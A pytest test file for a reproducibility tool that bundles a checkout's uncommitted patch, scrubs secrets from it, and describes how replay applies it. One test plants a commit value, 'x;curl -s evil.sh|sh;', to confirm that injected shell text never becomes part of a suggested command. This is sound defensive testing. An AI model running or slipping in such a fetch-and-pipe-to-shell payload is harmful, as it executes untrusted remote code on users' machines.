"""The changes of rlk-repro's own checkout go into the bundle, and replay says how to apply them."""

from __future__ import annotations

import dataclasses
from pathlib import Path

import pytest

from rlk_repro.base.secrets import Scrubber
from rlk_repro.images import own_patch
from rlk_repro.images.own_patch import with_own_patch
from rlk_repro.replay.recorded import describe_own_patch
from rlk_repro.rundir.manifest import Manifest, Unknown
from rlk_repro.rundir.paths import RunDir

COMMIT = "1a2b3c4d" * 5
PATCH = b"diff --git a/rlk_repro/x.py b/rlk_repro/x.py\n+a = 1\n"
TOKEN = "hf_" + "Zz9" * 9


def make_manifest(*, is_dirty: bool) -> Manifest:
    return Manifest(node="a", sections={"code": {"rlk_repro": {"commit": COMMIT, "is_dirty": is_dirty}}})


def record(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, patch: bytes | Unknown, untracked: list[str] | None = None
) -> tuple[Manifest, RunDir]:
    run_dir = RunDir(tmp_path)
    made = patch if isinstance(patch, Unknown) else (patch, untracked or [])
    monkeypatch.setattr(own_patch, "make_patch", lambda *_: made)
    return with_own_patch(make_manifest(is_dirty=True), run_dir.own_patch, Scrubber()), run_dir


def read_fact(manifest: Manifest) -> object:
    own = manifest.sections["code"]["rlk_repro"]
    assert isinstance(own, dict)
    return own["patch"]


def test_a_clean_checkout_has_no_patch(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(own_patch, "make_patch", None)
    manifest, run_dir = make_manifest(is_dirty=False), RunDir(tmp_path)
    assert with_own_patch(manifest, run_dir.own_patch, Scrubber()) is manifest
    assert not run_dir.own_patch.exists()
    assert describe_own_patch(Path("b.tgz"), [manifest]) == []


def test_changes_are_kept_and_replay_names_their_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    manifest, run_dir = record(tmp_path, monkeypatch, PATCH)
    assert read_fact(manifest) == "whole"
    assert run_dir.own_patch.read_bytes() == PATCH
    assert run_dir.is_packed(run_dir.own_patch.name)
    (line,) = describe_own_patch(Path("my b.tgz"), [manifest])
    assert line == (
        f"rlk-repro had uncommitted changes to commit {COMMIT}; rlk-repro.patch in my b.tgz holds them: "
        "code of the bundle's author, to be read before it is applied"
    )


def test_text_of_a_stranger_is_no_part_of_a_command(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    manifest, _ = record(tmp_path, monkeypatch, PATCH)
    own = manifest.sections["code"]["rlk_repro"]
    assert isinstance(own, dict)
    evil = dataclasses.replace(manifest, sections={"code": {"rlk_repro": {**own, "commit": "x;curl -s evil.sh|sh;"}}})
    (line,) = describe_own_patch(Path("b.tgz"), [evil])
    assert line.endswith("x;curl -s evil.sh|sh;): nothing can restore its code")


def test_secrets_are_taken_out_and_that_is_said(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    manifest, run_dir = record(tmp_path, monkeypatch, PATCH + f'+token = "{TOKEN}"\n'.encode())
    assert TOKEN.encode() not in run_dir.own_patch.read_bytes()
    assert read_fact(manifest) == "without secrets"
    assert describe_own_patch(Path("b.tgz"), [manifest])[1].startswith("  secrets were removed from this patch")


def test_files_outside_the_commit_are_named_and_not_kept(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    manifest, _ = record(tmp_path, monkeypatch, PATCH, ["k8s/kubeconfig"])
    assert read_fact(manifest) == "whole, which lacks files outside the commit: k8s/kubeconfig"
    lines = describe_own_patch(Path("b.tgz"), [manifest])
    assert lines[1:] == ["  which lacks files outside the commit: k8s/kubeconfig"]


@pytest.mark.parametrize(
    ("patch", "reason"),
    [
        (b"x" * (own_patch.MAX_PATCH_BYTES + 1), "the patch is larger than 1 MiB"),
        (
            PATCH + b"\nGIT binary patch\nliteral 3\n",
            "the changes include binary files, which may hide secrets",
        ),
        (b"", "no patch, because no changed file belongs to the package"),
        (Unknown("git is not on PATH"), "git is not on PATH"),
    ],
)
def test_what_is_not_kept_has_a_reason(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, patch: bytes | Unknown, reason: str
) -> None:
    manifest, run_dir = record(tmp_path, monkeypatch, patch)
    assert read_fact(manifest) == Unknown(reason)
    assert not run_dir.own_patch.exists()
    (line,) = describe_own_patch(Path("b.tgz"), [manifest])
    assert line == f"the bundle lacks rlk-repro's uncommitted changes to commit {COMMIT} ({reason})"
